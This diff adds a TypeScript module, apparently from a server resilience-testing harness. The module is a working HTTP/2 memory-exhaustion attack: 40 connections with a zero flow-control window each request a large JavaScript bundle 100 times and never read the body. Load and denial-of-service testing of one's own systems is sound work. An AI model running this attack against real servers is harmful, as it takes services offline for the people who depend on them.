@@ -1,0 +1,25 @@
+/** Large answers that are asked for and never read: whoever keeps them for the caller runs out of memory. */
+import { type Attack, forEachConnection } from './attack.ts';
+import { openSession } from './sockets.ts';
+
+export const unreadPages: Attack = {
+  name: 'unread-pages',
+  title: 'GET /docs/swagger-ui-bundle.js over HTTP/2 with a window of 0, never read',
+  full: { connections: 40, perConnection: 100 },
+  short: { connections: 4, perConnection: 100 },
+  holdMs: 15_000,
+  async run({ target, size, tally, signal }) {
+    await forEachConnection(size, async (index) => {
+      const session = await openSession(target, index, { initialWindowSize: 0 }).catch(() => undefined);
+      if (session === undefined) return tally.add('refused connection', 0);
+      signal.addEventListener('abort', () => session.destroy());
+      for (let count = 0; count < size.perConnection; count += 1) {
+        const end = tally.start();
+        const stream = session.request({ ':path': '/docs/swagger-ui-bundle.js' });
+        stream.on('response', (headers) => end(`${headers[':status']}`)); // not a byte of the body is read
+        stream.on('error', () => undefined);
+        stream.on('close', () => end('closed'));
+      }
+    });
+  },
+};
